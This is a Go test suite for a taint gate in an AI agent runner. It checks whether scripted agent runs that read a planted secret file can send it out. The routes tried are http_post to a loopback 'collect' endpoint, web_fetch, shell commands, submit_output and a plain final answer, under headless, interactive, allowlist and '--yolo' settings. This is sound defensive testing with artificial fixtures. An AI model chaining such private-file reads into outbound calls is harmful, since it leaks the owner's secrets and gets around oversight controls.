package taintgate

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/lever-jail/lever/internal/lev/levconfig"
	"github.com/lever-jail/lever/internal/lev/pipeline"
	"github.com/lever-jail/lever/internal/lev/provider"
	"github.com/lever-jail/lever/internal/lev/runner"
	"github.com/lever-jail/lever/internal/lev/taint"
)

// The exfiltration suite: a run reads Private data through a granted read path, then an
// outbound tool tries to carry it off the machine. Each case runs a real lev run (runner
// engine, scripted provider, the pipeline with this gate registered) against a loopback
// HTTP server that counts what reaches it, and asserts the stage's taint_audit.json.

const secret = "SECRET-lvtsbx-7f3a"

type sink struct {
	mu     sync.Mutex
	hits   int
	bodies []string
}

type world struct {
	root, home, levHome, wd string
	srv                     *httptest.Server
	sink                    *sink
	// exec is the runs' executor; nil: hostExec. Runs with stdio MCP servers need one
	// that can start them (mcpExec).
	exec func(*pipeline.RunEnv) (pipeline.Executor, error)
}

// executor is the executor factory the world's runs get.
func (w *world) executor() func(*pipeline.RunEnv) (pipeline.Executor, error) {
	if w.exec != nil {
		return w.exec
	}
	return hostExec
}

func newWorld(t *testing.T) *world {
	t.Helper()
	root, _ := filepath.EvalSymlinks(t.TempDir())
	w := &world{root: root, home: filepath.Join(root, "home"), levHome: filepath.Join(root, "lev"), wd: filepath.Join(root, "home", "proj"), sink: &sink{}}
	for _, d := range []string{w.wd, filepath.Join(w.home, "secret"), filepath.Join(w.levHome, "agents")} {
		os.MkdirAll(d, 0o755)
	}
	os.WriteFile(filepath.Join(w.home, "secret", "key.txt"), []byte(secret), 0o600)
	os.WriteFile(filepath.Join(w.wd, "readme.txt"), []byte("public project notes"), 0o644)
	w.srv = httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		w.sink.mu.Lock()
		w.sink.hits++
		w.sink.bodies = append(w.sink.bodies, r.URL.String()+" "+string(b))
		w.sink.mu.Unlock()
		io.WriteString(rw, "ok")
	}))
	t.Cleanup(w.srv.Close)
	return w
}

func (w *world) received() (int, string) {
	w.sink.mu.Lock()
	defer w.sink.mu.Unlock()
	return w.sink.hits, strings.Join(w.sink.bodies, "\n")
}

// runCase describes one run.
type runCase struct {
	tools   []string // offered in the stage
	script  string   // scripted provider rules
	policy  string   // policy file text
	config  string   // extra config.toml
	bpExtra string   // extra blueprint text (top level)
	yolo    bool
	asker   pipeline.Asker
	noGrant bool
	stages2 bool // a second stage that repeats stage 1's outbound call
	// newProvider, when set, builds the run's provider from the config (default
	// provider.New: the scripted one).
	newProvider func(levconfig.Provider) (provider.Provider, error)
}

type outcome struct {
	rec    *runner.Record
	audit  []taint.Record
	audit1 []taint.Record
	runDir string
}

func (w *world) run(t *testing.T, c runCase) outcome {
	t.Helper()
	script := filepath.Join(w.root, "script.toml")
	os.WriteFile(script, []byte(strings.ReplaceAll(c.script, "SRV", w.srv.URL)), 0o644)
	pol := filepath.Join(w.root, "policy.toml")
	os.WriteFile(pol, []byte(c.policy), 0o644)
	cfg := "[provider]\nkind = \"scripted\"\nscript = " + q(script) + "\n" +
		"[security]\npolicy_file = " + q(pol) + "\n" +
		"[tool_permissions]\nshell = \"allow\"\nweb_fetch = \"allow\"\nhttp_post = \"allow\"\nhttp_get = \"allow\"\nweb_search = \"allow\"\n\"mcp__web__*\" = \"allow\"\n\"mcp__fs__*\" = \"allow\"\n"
	if !c.noGrant {
		cfg += "[agent_read_paths.exfil]\nallow = [\"~/secret\"]\n"
	}
	cfg += c.config
	cfgFile := filepath.Join(w.levHome, "config.toml")
	os.WriteFile(cfgFile, []byte(cfg), 0o644)
	conf, err := levconfig.Load(cfgFile)
	if err != nil {
		t.Fatal(err)
	}
	tools := `["` + strings.Join(c.tools, `", "`) + `"]`
	bp := "name = \"exfil\"\nversion = \"1.0.0\"\n" + c.bpExtra + "\n[read_paths]\nallow = [\"~/secret\"]\n\n[stages.one]\nprompt = \"work\"\ntools = " + tools + "\n"
	if c.stages2 {
		bp += "\n[stages.two]\nprompt = \"again\"\ntools = " + tools + "\n"
	}
	os.WriteFile(filepath.Join(w.levHome, "agents", "exfil.toml"), []byte(bp), 0o644)
	eng := &runner.Engine{
		Store:       &runner.Store{Dir: filepath.Join(w.levHome, "runs")},
		AgentsDir:   filepath.Join(w.levHome, "agents"),
		Config:      func() *levconfig.Config { return conf },
		Home:        w.home,
		Asker:       c.asker,
		Log:         t.Logf,
		NewGate:     Factory,
		NewExecutor: w.executor(),
		NewProvider: c.newProvider,
	}
	rec, err := eng.Start(context.Background(), runner.Spec{Agent: "exfil", Workdir: w.wd, Yolo: c.yolo})
	if err != nil {
		t.Fatalf("spawn: %v", err)
	}
	eng.Wait()
	rec, err = eng.Store.Load(rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	o := outcome{rec: rec, runDir: eng.Store.RunDir(rec.ID)}
	o.audit, _ = taint.ReadAudit(taint.AuditPath(o.runDir, 0))
	o.audit1, _ = taint.ReadAudit(taint.AuditPath(o.runDir, 1))
	return o
}

// hostExec is the tests' executor: shell on the host (lev serve wires the sandbox).
func hostExec(*pipeline.RunEnv) (pipeline.Executor, error) { return pipeline.HostExecutor{}, nil }

func q(s string) string { b, _ := json.Marshal(s); return string(b) }

// script: turn 1 reads the secret through the grant, turn 2 makes call, turn 3 answers.
func script(stage, tool, args string) string {
	return `
[[rule]]
stage = "` + stage + `"
turn = 1
[[rule.call]]
tool = "read_file"
args = '{"path": "HOME/secret/key.txt"}'

[[rule]]
stage = "` + stage + `"
turn = 2
[[rule.call]]
tool = "` + tool + `"
args = '` + args + `'

[[rule]]
stage = "` + stage + `"
turn = 3
text = "done"
`
}

type want struct {
	tool    string
	sources []taint.Source
	taint   taint.Level
	rule    string
}

// calls drops the records of plain final answers (call ids "answer-N") and of the text a
// failed run ends with ("run-error-N"), which the engine gates as submit_output;
// TestFinalAnswerIsGated and cli.TestRunErrorIsGated cover those.
func calls(recs []taint.Record) []taint.Record {
	var out []taint.Record
	for _, r := range recs {
		if !strings.HasPrefix(r.CallID, "answer-") && !strings.HasPrefix(r.CallID, "run-error-") {
			out = append(out, r)
		}
	}
	return out
}

// runErrors are the records of a failed run's error text (see calls).
func runErrors(recs []taint.Record) []taint.Record {
	var out []taint.Record
	for _, r := range recs {
		if strings.HasPrefix(r.CallID, "run-error-") {
			out = append(out, r)
		}
	}
	return out
}

func checkAudit(t *testing.T, got []taint.Record, w want) {
	t.Helper()
	got = calls(got)
	if len(got) != len(w.sources) {
		t.Fatalf("audit has %d records, want %v: %+v", len(got), w.sources, got)
	}
	for i, r := range got {
		if r.DecisionSource != w.sources[i] || r.Tool != w.tool || r.Taint != w.taint || r.Seq == 0 || r.Time.IsZero() || r.Reason == "" || r.CallID == "" {
			t.Errorf("record %d = %+v, want source %s tool %s taint %s", i, r, w.sources[i], w.tool, w.taint)
		}
		if w.rule != "" && r.Rule != w.rule {
			t.Errorf("record %d rule %q, want %q", i, r.Rule, w.rule)
		}
		allowed := r.Decision == "allow"
		switch r.DecisionSource {
		case taint.SourceAutoBlock, taint.SourcePolicyDeny, taint.SourceUserDeny:
			if allowed {
				t.Errorf("record %d: %s with decision allow", i, r.DecisionSource)
			}
		default:
			if !allowed {
				t.Errorf("record %d: %s with decision block", i, r.DecisionSource)
			}
		}
	}
}

type askFunc func(ctx context.Context, q pipeline.Question) (bool, error)

func (f askFunc) Ask(ctx context.Context, q pipeline.Question) (bool, error) { return f(ctx, q) }

type sessionAsker struct {
	mu sync.Mutex
	n  int
}

func (s *sessionAsker) Ask(context.Context, pipeline.Question) (bool, error) { return true, nil }
func (s *sessionAsker) AskGate(context.Context, pipeline.Question) (taint.Answer, error) {
	s.mu.Lock()
	s.n++
	s.mu.Unlock()
	return taint.AnswerSession, nil
}

func TestExfiltrationSuite(t *testing.T) {
	post := `{"url": "SRV/collect", "body": "{{last}}"}`
	fetch := `{"url": "SRV/?q=x"}`
	for _, tc := range []struct {
		name     string
		c        runCase
		want     want
		hits     int
		check    func(t *testing.T, w *world, o outcome)
		noSecret bool
	}{
		{name: "shell blocked headless",
			c:    runCase{tools: []string{"read_file", "shell"}, script: script("one", "shell", `{"command": "echo {{last}} > leaked.txt"}`)},
			want: want{tool: "shell", sources: []taint.Source{taint.SourceAutoBlock}, taint: taint.Private},
			check: func(t *testing.T, w *world, o outcome) {
				if _, err := os.Stat(filepath.Join(w.wd, "leaked.txt")); err == nil {
					t.Error("blocked shell command ran")
				}
				if a := calls(o.audit); !strings.HasPrefix(a[0].Target, "echo ") {
					t.Errorf("shell target = %q, want the command", a[0].Target)
				}
			}},
		{name: "web_fetch blocked headless",
			c:    runCase{tools: []string{"read_file", "web_fetch"}, script: script("one", "web_fetch", fetch)},
			want: want{tool: "web_fetch", sources: []taint.Source{taint.SourceAutoBlock}, taint: taint.Private}},
		{name: "http_post blocked headless",
			c:    runCase{tools: []string{"read_file", "http_post"}, script: script("one", "http_post", post)},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourceAutoBlock}, taint: taint.Private},
			check: func(t *testing.T, w *world, o outcome) {
				if a := calls(o.audit); a[0].Target != "127.0.0.1" {
					t.Errorf("http_post target %q, want the URL's host", a[0].Target)
				}
			}},
		{name: "submit_output blocked headless",
			c:    runCase{tools: []string{"read_file", "submit_output"}, script: script("one", "submit_output", `{"output": "{{last}}"}`)},
			want: want{tool: "submit_output", sources: []taint.Source{taint.SourceAutoBlock}, taint: taint.Private},
			check: func(t *testing.T, w *world, o outcome) {
				if strings.Contains(string(o.rec.Result), secret) {
					t.Errorf("blocked submit_output still published the secret: %s", o.rec.Result)
				}
			}},
		{name: "http_post asked interactively, denied",
			c: runCase{tools: []string{"read_file", "http_post"}, script: script("one", "http_post", post),
				asker: askFunc(func(_ context.Context, q pipeline.Question) (bool, error) {
					if !strings.Contains(q.Reason, "taint gate") || !strings.Contains(q.Reason, "private") {
						t.Errorf("prompt %q does not say why", q.Reason)
					}
					return false, nil
				})},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourceUserDeny}, taint: taint.Private}},
		{name: "shell asked interactively, allowed once",
			c: runCase{tools: []string{"read_file", "shell"}, script: script("one", "shell", `{"command": "echo ok > asked.txt"}`),
				asker: askFunc(func(context.Context, pipeline.Question) (bool, error) { return true, nil })},
			want: want{tool: "shell", sources: []taint.Source{taint.SourceUserOnce}, taint: taint.Private},
			check: func(t *testing.T, w *world, o outcome) {
				if _, err := os.Stat(filepath.Join(w.wd, "asked.txt")); err != nil {
					t.Error("allowed shell command did not run")
				}
			}},
		{name: "http_post allowed for the session asks once",
			c: runCase{tools: []string{"read_file", "http_post"}, asker: &sessionAsker{}, script: strings.Replace(script("one", "http_post", post), "turn = 3\ntext = \"done\"", `turn = 3
[[rule.call]]
tool = "http_post"
args = '{"url": "SRV/again", "body": "x"}'

[[rule]]
stage = "one"
turn = 4
text = "done"`, 1)},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourceUserSession, taint.SourceSessionAllow}, taint: taint.Private},
			hits: 2, noSecret: false},
		{name: "http_post under --yolo: waived and audited beside the AutoBlock",
			c:    runCase{tools: []string{"read_file", "http_post"}, yolo: true, script: script("one", "http_post", post)},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourceAutoBlock, taint.SourceYoloAutoApprove}, taint: taint.Private},
			hits: 1,
			check: func(t *testing.T, w *world, o outcome) {
				if a := calls(o.audit); !a[0].Waived || a[1].Overrides != a[0].Seq || a[1].Mode != "yolo" {
					t.Errorf("yolo pair not linked: %+v", o.audit)
				}
				raw, _ := os.ReadFile(taint.AuditPath(o.runDir, 0))
				if !strings.Contains(string(raw), `"decision_source": "YoloAutoApprove"`) {
					t.Errorf("audit file lacks the YoloAutoApprove record:\n%s", raw)
				}
			}},
		{name: "submit_output under --yolo publishes, and says so",
			c:    runCase{tools: []string{"read_file", "submit_output"}, yolo: true, script: script("one", "submit_output", `{"output": "{{last}}"}`)},
			want: want{tool: "submit_output", sources: []taint.Source{taint.SourceAutoBlock, taint.SourceYoloAutoApprove}, taint: taint.Private},
			check: func(t *testing.T, w *world, o outcome) {
				if !strings.Contains(string(o.rec.Result), secret) {
					t.Errorf("yolo submit_output: result %s", o.rec.Result)
				}
			}},
		{name: "http_post allowed by a matching allowlist rule",
			c: runCase{tools: []string{"read_file", "http_post"}, script: script("one", "http_post", post),
				policy: "[[allow]]\ntool = \"http_post\"\ntarget = \"127.0.0.*\"\nmax_sensitivity = \"private\"\n"},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourcePolicyAllow}, taint: taint.Private, rule: "allow[0]"},
			hits: 1},
		{name: "allowlist rule for another host does not match",
			c: runCase{tools: []string{"read_file", "http_post"}, script: script("one", "http_post", post),
				policy: "[[allow]]\ntool = \"http_post\"\ntarget = \"*.example.com\"\nmax_sensitivity = \"private\"\n"},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourceAutoBlock}, taint: taint.Private}},
		{name: "allowlist rule capped below private does not match",
			c: runCase{tools: []string{"read_file", "http_post"}, script: script("one", "http_post", post),
				policy: "[[allow]]\ntool = \"http_post\"\ntarget = \"127.0.0.1\"\nmax_sensitivity = \"internal\"\n"},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourceAutoBlock}, taint: taint.Private}},
		{name: "policy deny rule is not waived by --yolo",
			c: runCase{tools: []string{"read_file", "http_post"}, yolo: true, script: script("one", "http_post", post),
				policy: "[[rule]]\nname = \"nothing private leaves\"\nwhen = 'taint == \"private\"'\naction = \"deny\"\n"},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourcePolicyDeny}, taint: taint.Private, rule: `rule[0] "nothing private leaves"`}},
		{name: "blueprint on_violation = deny tightens",
			c: runCase{tools: []string{"read_file", "http_post"}, yolo: true, script: script("one", "http_post", post),
				bpExtra: "[taint_tracking]\non_violation = \"deny\"\n"},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourcePolicyDeny}, taint: taint.Private}},
		{name: "[tool_permissions] deny is never lifted, not even by --yolo",
			c: runCase{tools: []string{"read_file", "http_post"}, yolo: true, script: script("one", "http_post", post),
				config: "", bpExtra: "[tool_permissions]\nhttp_post = \"deny\"\n"},
			want: want{tool: "http_post", sources: nil}},
		{name: "no grant: the workdir read is internal, within clearance",
			c:    runCase{tools: []string{"read_file", "http_post"}, noGrant: true, script: strings.Replace(script("one", "http_post", post), "HOME/secret/key.txt", "readme.txt", 1)},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourceWithinClearance}, taint: taint.Internal},
			hits: 1},
		{name: "the next stage inherits the output's label",
			c: runCase{tools: []string{"read_file", "http_post"}, stages2: true,
				policy: "[[allow]]\ntool = \"submit_output\"\nmax_sensitivity = \"private\"\n", // lets stage one finish
				script: script("one", "http_post", post) + `
[[rule]]
stage = "two"
turn = 1
[[rule.call]]
tool = "http_post"
args = '{"url": "SRV/stage2", "body": "{{last}}"}'

[[rule]]
stage = "two"
turn = 2
text = "done"
`},
			want: want{tool: "http_post", sources: []taint.Source{taint.SourceAutoBlock}, taint: taint.Private},
			check: func(t *testing.T, w *world, o outcome) {
				checkAudit(t, o.audit1, want{tool: "http_post", sources: []taint.Source{taint.SourceAutoBlock}, taint: taint.Private})
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t)
			tc.c.script = strings.ReplaceAll(tc.c.script, "HOME", w.home)
			o := w.run(t, tc.c)
			checkAudit(t, o.audit, tc.want)
			hits, bodies := w.received()
			if hits != tc.hits {
				t.Errorf("server got %d requests, want %d:\n%s", hits, tc.hits, bodies)
			}
			if tc.hits == 0 && strings.Contains(bodies, secret) {
				t.Errorf("secret reached the server")
			}
			if tc.check != nil {
				tc.check(t, w, o)
			}
		})
	}
}

// TestFinalAnswerIsGated: a plain answer ends the stage and becomes the run's result, so
// the engine puts it through the gate as submit_output: quoting the secret in prose is
// no way around the gate.
func TestFinalAnswerIsGated(t *testing.T) {
	sc := `
[[rule]]
turn = 1
[[rule.call]]
tool = "read_file"
args = '{"path": "HOME/secret/key.txt"}'

[[rule]]
turn = 2
text = "the key is ` + secret + `"
`
	for _, tc := range []struct {
		yolo    bool
		sources []taint.Source
		leaks   bool
	}{
		{false, []taint.Source{taint.SourceAutoBlock}, false},
		{true, []taint.Source{taint.SourceAutoBlock, taint.SourceYoloAutoApprove}, true},
	} {
		w := newWorld(t)
		o := w.run(t, runCase{tools: []string{"read_file"}, yolo: tc.yolo, script: strings.ReplaceAll(sc, "HOME", w.home)})
		if got := strings.Contains(string(o.rec.Result), secret); got != tc.leaks {
			t.Errorf("yolo=%v: result %s (status %s)", tc.yolo, o.rec.Result, o.rec.Status)
		}
		answers := o.audit[:len(o.audit)-len(runErrors(o.audit))] // the failed run's error comes last
		if len(answers) != len(tc.sources) {
			t.Fatalf("yolo=%v: audit %+v", tc.yolo, o.audit)
		}
		for i, r := range answers {
			if r.Tool != "submit_output" || r.CallID != "answer-2" || r.DecisionSource != tc.sources[i] || r.Taint != taint.Private {
				t.Errorf("yolo=%v: record %d %+v", tc.yolo, i, r)
			}
		}
		calls, _ := os.ReadFile(filepath.Join(o.runDir, "stages", "0", "tool_calls.jsonl"))
		if !tc.yolo && !strings.Contains(string(calls), "blocked by the taint gate") {
			t.Errorf("the blocked answer is not in tool_calls.jsonl:\n%s", calls)
		}
	}
}
